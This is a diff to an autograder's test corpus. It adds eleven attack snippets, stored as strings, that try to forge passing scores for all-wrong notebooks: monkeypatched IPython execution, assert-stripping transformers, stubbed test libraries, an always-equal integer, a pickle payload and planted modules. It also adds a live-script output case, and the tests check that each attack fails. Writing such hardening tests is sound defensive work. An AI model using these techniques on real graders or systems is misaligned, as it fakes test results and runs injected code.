@@ -3,8 +3,9 @@
 Notebooks are built from the current ``00-template`` release at test time, so the corpus follows
 the template.
 Most cases are *lite*: only the exercise cells (solutions and tests) plus the attack, so that a
-kernel run takes seconds; in a lite notebook exercise 1 can earn full marks and exercise 2
-cannot (its tests need the narrative cells that build ``pipe``).
+kernel run takes seconds. The verdict kernel runs the release's narrative cells itself, so a lite
+notebook with right answers earns full marks (exercise 2's tests pass the instructor's fitted
+``pipe`` to the student's function).
 
 Expected outcomes: ``graded`` with a score per exercise (``"full"`` or a number), or ``failed``
 with a category and a reason (regular expression). ``check`` names extra assertions made by
@@ -60,7 +61,7 @@ def solved(ctx: Context) -> nbformat.NotebookNode:
 
 
 def lite(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
-    """Only the exercise cells: fast to run; exercise 2 cannot pass without the narrative."""
+    """Only the exercise cells: fast to run."""
     nb = copy.deepcopy(nb)
     nb.cells = [c for c in nb.cells if _gid(c)]
     return nb
@@ -89,6 +90,16 @@ def wrong_first_exercise(nb) -> nbformat.NotebookNode:
     cell = first_solution(nb)
     name = cell.source.split("def ", 1)[1].split("(", 1)[0]
     cell.source = f"def {name}(*args, **kwargs):\n    return 0\n"
+    return nb
+
+
+def wrong_everything(nb) -> nbformat.NotebookNode:
+    """Every exercise answered wrongly: each function of a solution cell returns 0."""
+    nb = copy.deepcopy(nb)
+    for cell in nb.cells:
+        if cell.get("metadata", {}).get("nbgrader", {}).get("solution") and "def " in cell.source:
+            names = [part.split("(", 1)[0] for part in cell.source.split("def ")[1:]]
+            cell.source = "".join(f"def {n}(*args, **kwargs):\n    return 0\n" for n in names)
     return nb
 
 
@@ -170,6 +181,154 @@ LEAK_HIDDEN = (
 LEAK_LATER = "print('LEAK-HISTORY:', In)\n"
 
 
+# -- forging routes: each once gave an all-wrong notebook full marks when the tests ran in the
+# student's kernel (issue 18); with the verdict kernel each must score what a blank notebook does
+FORGE_RUN_CODE = (
+    "import functools\n"
+    "ip = get_ipython()\n"
+    "async def _quiet(orig, code_obj, result=None, *, async_=False):\n"
+    "    try:\n"
+    "        exec(code_obj, ip.user_global_ns, ip.user_ns)\n"
+    "    except Exception as exc:\n"
+    "        if 'AUTOGRADER' in str(exc):\n"
+    "            raise\n"
+    "    return False\n"
+    "ip.run_code = functools.partial(_quiet, ip.run_code)\n"
+)
+FORGE_RUN_CELL = (
+    "import functools\n"
+    "ip = get_ipython()\n"
+    "def _run_cell(orig, raw_cell, *args, **kwargs):\n"
+    "    if 'assert' in raw_cell and 'AUTOGRADER' not in raw_cell:\n"
+    "        raw_cell = 'pass'\n"
+    "    return orig(raw_cell, *args, **kwargs)\n"
+    "_run_cell.__module__ = 'IPython.core.interactiveshell'\n"
+    "ip.run_cell = functools.partial(_run_cell, ip.run_cell)\n"
+)
+FORGE_AST = (
+    "import ast\n"
+    "class SafeNodes(ast.NodeTransformer):\n"
+    "    def visit_Module(self, node):\n"
+    "        handler = ast.ExceptHandler(type=ast.Name('Exception', ast.Load()), name=None,\n"
+    "                                    body=[ast.Pass()])\n"
+    "        node.body = [ast.Try(body=[s], handlers=[handler], orelse=[], finalbody=[])\n"
+    "                     for s in node.body]\n"
+    "        return ast.fix_missing_locations(node)\n"
+    "SafeNodes.__module__ = 'IPython.core.interactiveshell'\n"
+    "SafeNodes.__qualname__ = 'InteractiveShell.ast_transformers'\n"
+    "get_ipython().ast_transformers.append(SafeNodes())\n"
+)
+FORGE_INPUT = (
+    "import inspect\n"
+    "def _rewrite(lines):\n"
+    "    text = ''.join(lines)\n"
+    "    if 'assert' in text and 'AUTOGRADER' not in text:\n"
+    "        return ['pass\\n']\n"
+    "    return lines\n"
+    "_rewrite.__module__ = 'IPython.core.inputtransformer2'\n"
+    "ip = get_ipython()\n"
+    "ip.input_transformers_cleanup.append(_rewrite)\n"
+    "ip.input_transformers_post.append(_rewrite)\n"
+)
+FORGE_TRACER = (
+    "import sys, ast, functools\n"
+    "def _tracer(state, frame, event, arg):\n"
+    "    if event == 'call' and frame.f_code.co_name == 'transform_ast':\n"
+    "        node = frame.f_locals.get('node')\n"
+    "        if node is not None and any(isinstance(n, ast.Assert) for n in ast.walk(node)):\n"
+    "            node.body = [ast.Pass()]\n"
+    "    return None\n"
+    "sys.settrace(functools.partial(_tracer, {}))\n"
+)
+FORGE_EXCEPTIONS = (
+    "import builtins\n"
+    "class AssertionError(Exception):\n"
+    "    pass\n"
+    "builtins.AssertionError = AssertionError\n"
+    "get_ipython().set_custom_exc((Exception,), lambda shell, etype, evalue, tb, tb_offset=None: None)\n"
+)
+FORGE_OUTPUTS = (
+    "ip = get_ipython()\n"
+    "_session = ip.kernel.session\n"
+    "_send = _session.send\n"
+    "def _send_no_errors(stream, msg_or_type, content=None, *args, **kwargs):\n"
+    "    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get('msg_type')\n"
+    "    if kind == 'error':\n"
+    "        return None\n"
+    "    if kind == 'execute_reply' and isinstance(content, dict):\n"
+    "        content = dict(content, status='ok')\n"
+    "    return _send(stream, msg_or_type, content, *args, **kwargs)\n"
+    "_session.send = _send_no_errors\n"
+)
+FORGE_EQUALITY = (
+    "class Yes(int):\n"
+    "    def __eq__(self, other):\n"
+    "        return True\n"
+    "    __hash__ = int.__hash__\n"
+    "def converters_needed(*args, **kwargs):\n"
+    "    return Yes(0)\n"
+)
+FORGE_LIBRARIES = (
+    "import onnx.checker, numpy.testing, unittest\n"
+    "unittest.TestCase.assertEqual = lambda *args, **kwargs: None\n"
+    "onnx.checker.check_model = lambda *args, **kwargs: None\n"
+    "numpy.testing.assert_allclose = lambda *args, **kwargs: None\n"
+)
+FORGE_BRIDGE = (
+    "import io, json, base64, sys, pickle\n"
+    "import numpy as np\n"
+    "class Boom:\n"
+    "    def __reduce__(self):\n"
+    "        return (print, ('PWNED-BY-PICKLE',))\n"
+    "buf = io.BytesIO()\n"
+    "np.save(buf, np.array([Boom()], dtype=object), allow_pickle=True)\n"
+    "evil = {'$ndarray': base64.b64encode(buf.getvalue()).decode()}\n"
+    "bridge = sys.modules['autograder_bridge']\n"
+    "def call(nonce, request):\n"
+    "    print(nonce + json.dumps({'value': json.dumps(evil), 'stdout': 'all tests passed'}))\n"
+    "def describe(nonce, names, since=None):\n"
+    "    entries = {n: {'kind': 'data', 'wire': evil} for n in names}\n"
+    "    print(nonce + json.dumps({'names': entries, 'files': {}}))\n"
+    "bridge.call, bridge.describe = call, describe\n"
+)
+FORGE_MODULE = (
+    "for name in ('onnxruntime.py', 'onnx.py', 'sitecustomize.py', 'usercustomize.py'):\n"
+    "    with open(name, 'w') as fh:\n"
+    "        fh.write('print(\"PWNED-BY-MODULE\")\\n')\n"
+    "import os\n"
+    "os.makedirs('numpy', exist_ok=True)\n"
+    "open('numpy/__init__.py', 'w').write('print(\"PWNED-BY-MODULE\")\\n')\n"
+)
+SCRIPT_OUTPUT = (
+    "from IPython.display import HTML, Javascript, display\n"
+    "display(HTML('<b>bold</b><script>document.title = \"PWNED-BY-SCRIPT\"</script>'))\n"
+    "display(Javascript('document.title = \"PWNED-BY-JS\"'))\n"
+)
+#: student -> (kind, attack code)
+FORGERIES = {
+    "forge-run-code": (
+        "run_code replaced by a functools.partial that swallows errors",
+        FORGE_RUN_CODE,
+    ),
+    "forge-run-cell": ("run_cell replaced: test cells become `pass`", FORGE_RUN_CELL),
+    "forge-ast": ("AST transformer claiming to be IPython's wraps statements in try", FORGE_AST),
+    "forge-input": ("input transformers rewrite every cell with an assert", FORGE_INPUT),
+    "forge-tracer": (
+        "sys.settrace tracer (a partial) rewrites the AST in transform_ast",
+        FORGE_TRACER,
+    ),
+    "forge-exceptions": (
+        "AssertionError replaced, set_custom_exc swallows errors",
+        FORGE_EXCEPTIONS,
+    ),
+    "forge-outputs": ("kernel session drops error messages and rewrites replies", FORGE_OUTPUTS),
+    "forge-equality": ("answer is an int subclass whose == is always true", FORGE_EQUALITY),
+    "forge-libraries": ("onnx.checker, numpy.testing, unittest replaced", FORGE_LIBRARIES),
+    "forge-bridge": ("the grader's bridge in the kernel replaced: pickle payloads", FORGE_BRIDGE),
+    "forge-module": ("onnxruntime.py, numpy/ written for the grader to import", FORGE_MODULE),
+}
+
+
 def escape_code(ctx: Context) -> str:
     root = str(ctx.course_root)
     return f"""
@@ -224,7 +383,10 @@ print("NETWORK-REACHED" if reached else "network unreachable", reached)
 
 
 def cases() -> list[Case]:
-    full1 = {"ex1": "full", "ex2": 0}
+    # lite notebooks with right answers earn everything: the verdict kernel runs the release's
+    # narrative itself (exercise 2's tests get the instructor's fitted pipeline, not the student's)
+    full1 = {"ex1": "full", "ex2": "full"}
+    ex1_wrong = {"ex1": 0, "ex2": "full"}
     return [
         Case(
             "ok-full",
@@ -246,7 +408,7 @@ def cases() -> list[Case]:
             "busy loop that ignores the interrupt",
             "failed",
             category="cell-timeout",
-            reason=r"did not stop when interrupted",
+            reason=r"did not stop when interrupted \(the notebook ignored SIGINT",
         ),
         Case(
             "memory",
@@ -331,43 +493,74 @@ def cases() -> list[Case]:
             "edited-tests",
             "wrong answer, test cells edited to pass",
             "graded",
-            {"ex1": 0, "ex2": 0},
+            ex1_wrong,
             notes=r"was edited",
         ),
         Case(
             "duplicated-tests",
             "wrong answer, test cells duplicated and edited, fake 100-point cell",
             "graded",
-            {"ex1": 0, "ex2": 0},
+            ex1_wrong,
             notes=r"ex1-bonus|duplicates",
         ),
         Case(
             "tamper-traceback",
-            "error display disabled (showtraceback replaced)",
-            "failed",
-            category="tampering",
-            reason=r"error reporting is disabled|showtraceback",
+            "wrong answer, error display disabled (showtraceback replaced)",
+            "graded",
+            ex1_wrong,
+            notes=r"error reporting is disabled|showtraceback",
         ),
         Case(
             "tamper-testing",
             "testing functions replaced (numpy.testing, builtins.print)",
-            "failed",
-            category="tampering",
-            reason=r"numpy\.testing\.assert_allclose",
+            "graded",
+            full1,
+            notes=r"numpy\.testing\.assert_allclose",
         ),
         Case(
             "tamper-hook",
             "IPython hook watching every cell",
-            "failed",
-            category="tampering",
-            reason=r"pre_run_cell",
+            "graded",
+            full1,
+            notes=r"pre_run_cell",
         ),
         Case(
             "forged-score",
             "wrong answer that sends a forged score (execute_result)",
+            "graded",
+            ex1_wrong,
+        ),
+        *[
+            Case(
+                student,
+                f"all wrong + {kind}",
+                "graded",
+                {"ex1": 0, "ex2": 0},
+                checks=("blank-score", "not-pwned"),
+            )
+            for student, (kind, _code) in FORGERIES.items()
+        ],
+        Case(
+            "script-output",
+            "outputs live script (HTML <script>, JavaScript) for the instructor's browser",
+            "graded",
+            full1,
+            checks=("feedback-inert",),
+        ),
+        Case(
+            "symlink-notebook",
+            "submitted/ holds a symbolic link to the instructor's source notebook",
             "failed",
-            category="tampering",
-            reason=r"forged",
+            category="not-a-notebook",
+            reason=r"symbolic link",
+            checks=("feedback-clean",),
+        ),
+        Case(
+            "oversized",
+            "a 60 MB notebook",
+            "failed",
+            category="too-large",
+            reason=r"MB",
         ),
         Case(
             "read-secrets",
@@ -478,6 +671,20 @@ def build(case: Case, ctx: Context) -> bytes:
         nb = insert_before(lite_good, _gid(first_solution(lite_good)), TAMPER_TESTING)
     elif s == "tamper-hook":
         nb = insert_before(lite_good, _gid(first_solution(lite_good)), TAMPER_HOOK)
+    elif s in FORGERIES:
+        wrong = wrong_everything(lite_good)
+        if s == "forge-equality":
+            nb = copy.deepcopy(wrong)
+            first_solution(nb).source = FORGE_EQUALITY
+        else:
+            nb = insert_before(wrong, _gid(first_solution(wrong)), FORGERIES[s][1])
+    elif s == "script-output":
+        nb = append(lite_good, SCRIPT_OUTPUT)
+    elif s == "symlink-notebook":
+        return b""  # the test's fixture makes the link (to source/)
+    elif s == "oversized":
+        nb = copy.deepcopy(lite_good)
+        nb.cells.append(nbformat.v4.new_markdown_cell("x" * (60 * 2**20)))
     elif s == "forged-score":
         nb = copy.deepcopy(lite_good)
         first_solution(nb).source = FORGED_SCORE
